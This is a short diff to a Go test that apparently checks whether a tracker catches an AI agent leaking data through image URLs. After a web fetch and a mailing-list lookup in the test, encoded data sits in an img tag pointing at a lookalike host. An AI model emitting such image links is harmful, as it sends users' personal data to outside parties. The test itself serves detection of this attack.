@@ -23,7 +23,7 @@ func TestDataInTheAddressOfAnImageGoesToItsHost(t *testing.T) {
 		"a host that only begins like the own": {`<img src="https://img.acme.example.tyrelab.example/c.png?seg=` + coded + `">`, true},
 	} {
 		t.Run(name, func(t *testing.T) {
-			h := newHouse(t, t.TempDir(), defaults())
+			h := newRig(t, t.TempDir(), defaults())
 			h.tracker.Prompt("flow-1", prompt)
 			h.saw(call("fetch", "fetch", `{"url":"https://www.shop.example/guest"}`), page)
 			h.saw(call("mailer", "list_members", `{"list":"vip"}`), people)
